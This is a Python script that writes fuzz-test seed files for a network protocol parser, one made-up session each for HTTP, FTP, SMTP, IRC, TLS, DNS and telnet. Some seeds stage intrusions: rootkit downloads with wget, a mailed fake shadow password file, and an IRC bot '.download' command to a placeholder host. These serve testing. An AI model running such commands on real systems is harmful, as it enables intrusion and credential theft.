#!/usr/bin/env python3
"""Seeds for fuzz_session: one made-up conversation per protocol, in the
harness's layout (tests/fuzz/fuzz_session.c).
    seed_session.py CORPUS_DIR"""
import base64
import gzip
import os
import struct
import sys
import zlib

APPS = ['http', 'ftp', 'ftp-data', 'smtp', 'irc', 'tls', 'dns', 'telnet']
AUTO = 15


def seed(conns, records, flags=0):
    """conns: up to 4 (app index or AUTO, port, udp); records: (conn, dir, bytes
    or int gap, end)"""
    b = bytearray([flags])
    conns = list(conns) + [(AUTO, 9, False)] * (4 - len(conns))
    for app, port, udp in conns:
        b += bytes([app | (16 if udp else 0)]) + struct.pack('>H', port)
    for k, d, payload, end in records:
        op = k | (d << 2) | (16 if end else 0) | (32 if end == 'rst' else 0)
        if isinstance(payload, int):
            b += bytes([op | 8]) + struct.pack('>H', payload)
        else:
            for i in range(0, max(len(payload), 1), 60000):
                b += bytes([op]) + struct.pack('>H', len(payload[i:i + 60000])) + payload[i:i + 60000]
    return bytes(b)


def A(name):
    return APPS.index(name)


body = b'rootkit ' * 300
gz = gzip.compress(body)
chunked = b''.join(b'%x\r\n%s\r\n' % (len(gz[i:i + 100]), gz[i:i + 100]) for i in range(0, len(gz), 100)) + b'0\r\n\r\n'
http = [
    (0, 0, b'GET /x/rk.tgz HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Wget/1.5\r\n\r\n'
           b'GET /b HTTP/1.1\r\nHost: h\r\n\r\n', 0),
    (0, 1, b'HTTP/1.1 200 OK\r\nContent-Type: application/x-gzip\r\nContent-Length: %d\r\n\r\n%s' % (len(body), body), 0),
    (0, 1, b'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Encoding: gzip\r\n\r\n' + chunked, 0),
    (0, 0, b'POST /up HTTP/1.0\r\nContent-Length: 5\r\n\r\nhello', 0),
    (0, 1, 40, 0),
    (0, 1, b'HTTP/1.0 204 No Content\r\n\r\n', 'fin'),
]
ftp = [
    (0, 1, b'220 FTP server ready.\r\n', 0),
    (0, 0, b'USER ftp\r\n', 0), (0, 1, b'331 Guest login ok.\r\n', 0),
    (0, 0, b'PASS x@\r\n', 0), (0, 1, b'230 ok.\r\n', 0),
    (0, 0, b'PASV\r\n', 0), (0, 1, b'227 Entering Passive Mode (10,0,0,2,4,1).\r\n', 0),
    (0, 0, b'RETR rk.tgz\r\n', 0), (0, 1, b'150 Opening BINARY mode data connection.\r\n', 0),
    (1, 1, body, 'fin'),
    (0, 1, b'226 Transfer complete.\r\n', 0),
    (0, 0, b'EPSV\r\n', 0), (0, 1, b'229 Entering Extended Passive Mode (|||1026|)\r\n', 0),
    (0, 0, b'STOR up.bin\r\n', 0), (0, 1, b'150 ok\r\n', 0),
    (2, 0, b'uploaded bytes', 'rst'),
    (0, 0, b'PORT 10,0,0,1,4,3\r\n', 0), (0, 1, b'200 PORT command successful.\r\n', 0),
    (0, 0, b'EPRT |2|::1|1027|\r\n', 0), (0, 1, b'200 ok\r\n', 0),
    (0, 0, b'LIST\r\n', 0), (0, 1, b'150 Here comes the directory listing.\r\n', 'fin'),
]
att = base64.encodebytes(b'root:$1$abc:0:0:99999:7:::\n' * 20)
smtp = [
    (0, 1, b'220 mail.example.com ESMTP\r\n', 0),
    (0, 0, b'EHLO intruder\r\n', 0), (0, 1, b'250-mail\r\n250 8BITMIME\r\n', 0),
    (0, 0, b'MAIL FROM:<a@b.c>\r\n', 0), (0, 1, b'250 ok\r\n', 0),
    (0, 0, b'RCPT TO:<d@e.f>\r\n', 0), (0, 1, b'250 ok\r\n', 0),
    (0, 0, b'DATA\r\n', 0), (0, 1, b'354 go ahead\r\n', 0),
    (0, 0, b'From: a@b.c\r\nTo: d@e.f\r\nSubject: loot\r\nMIME-Version: 1.0\r\n'
           b'Content-Type: multipart/mixed; boundary="XX"\r\n\r\n--XX\r\nContent-Type: text/plain\r\n\r\n'
           b'..see attached\r\n--XX\r\nContent-Type: application/octet-stream; name="shadow"\r\n'
           b'Content-Disposition: attachment; filename="shadow"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
           + att.replace(b'\n', b'\r\n') + b'--XX--\r\n.\r\n', 0),
    (0, 1, b'250 queued\r\n', 0), (0, 0, b'QUIT\r\n', 0), (0, 1, b'221 bye\r\n', 'fin'),
]
irc = [
    (0, 0, b'NICK rbot-4711\r\nUSER rbot 0 0 :rbot\r\n', 0),
    (0, 1, b':irc.example.net 001 rbot-4711 :Welcome\r\n', 0),
    (0, 0, b'JOIN #owned\r\n', 0),
    (0, 1, b':boss!b@h PRIVMSG #owned :.download http://x/y.exe\r\n', 'fin'),
]


def tls_hello(sni):
    ext_sni = struct.pack('>HHHBH', 0, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni
    ext_sv = struct.pack('>HHB', 43, 5, 4) + b'\x03\x04\x03\x03'
    exts = ext_sni + ext_sv
    body = b'\x03\x03' + b'\x11' * 32 + b'\x00' + b'\x00\x04\x13\x01\xc0\x2f' + b'\x01\x00' + struct.pack('>H', len(exts)) + exts
    hs = b'\x01' + struct.pack('>I', len(body))[1:] + body
    return b'\x16\x03\x01' + struct.pack('>H', len(hs)) + hs


def tls_server():
    exts = struct.pack('>HHH', 43, 2, 0x0304)
    body = b'\x03\x03' + b'\x22' * 32 + b'\x00' + b'\x13\x01' + b'\x00' + struct.pack('>H', len(exts)) + exts
    hs = b'\x02' + struct.pack('>I', len(body))[1:] + body
    return b'\x16\x03\x03' + struct.pack('>H', len(hs)) + hs + b'\x14\x03\x03\x00\x01\x01' + b'\x17\x03\x03\x00\x05hello'


hello = tls_hello(b'www.example.com')
tls = [(0, 0, hello[:7], 0), (0, 0, hello[7:30], 0), (0, 0, hello[30:], 0), (0, 1, tls_server(), 'fin')]


def dns_msg(qid, name, resp):
    q = b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\x00' + b'\x00\x01\x00\x01'
    if not resp:
        return struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0) + q
    ans = b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 300, 4) + bytes([66, 150, 8, 52])
    ans += b'\xc0\x0c' + struct.pack('>HHIH', 5, 1, 300, 2) + b'\xc0\x0c'  # a pointer to itself's name
    return struct.pack('>HHHHHH', qid, 0x8180, 1, 2, 0, 0) + q + ans


dq, da = dns_msg(54517, b'www.bluecoat.com', 0), dns_msg(54517, b'www.bluecoat.com', 1)
dns_udp = [(0, 0, dq, 0), (0, 1, da, 'fin')]
dns_tcp = [(0, 0, struct.pack('>H', len(dq)) + dq[:5], 0), (0, 0, dq[5:], 0),
           (0, 1, struct.pack('>H', len(da)) + da + struct.pack('>H', len(da)) + da, 'fin')]
telnet = [(0, 1, b'\xff\xfd\x18\xff\xfd\x20login: ', 0), (0, 0, b'\xff\xfc\x18r', 0), (0, 0, b'oot\r\n', 0),
          (0, 1, b'Password:', 0), (0, 0, b'secret\r\nuname -a\r\nwget http://x/rk.tgz\r\n', 'fin')]

out = sys.argv[1]
os.makedirs(out, exist_ok=True)
seeds = {
    'http': seed([(A('http'), 80, False)], http),
    'http-auto-8080': seed([(AUTO, 8080, False)], http, 1),
    'ftp': seed([(A('ftp'), 21, False), (A('ftp-data'), 1025, False), (A('ftp-data'), 1026, False)], ftp),
    'ftp-auto': seed([(AUTO, 21, False), (AUTO, 1025, False), (AUTO, 1026, False)], ftp, 1),
    'smtp': seed([(A('smtp'), 25, False)], smtp, 1),
    'smtp-extract': seed([(AUTO, 25, False)], smtp, 2),
    'irc': seed([(AUTO, 31337, False)], irc),
    'tls': seed([(A('tls'), 443, False)], tls, 1),
    'tls-auto': seed([(AUTO, 8443, False)], tls),
    'dns-udp': seed([(A('dns'), 53, True)], dns_udp, 1),
    'dns-tcp': seed([(AUTO, 53, False)], dns_tcp),
    'telnet': seed([(A('telnet'), 23, False)], telnet),
}
for name, b in seeds.items():
    open(os.path.join(out, 'seed-' + name), 'wb').write(b)
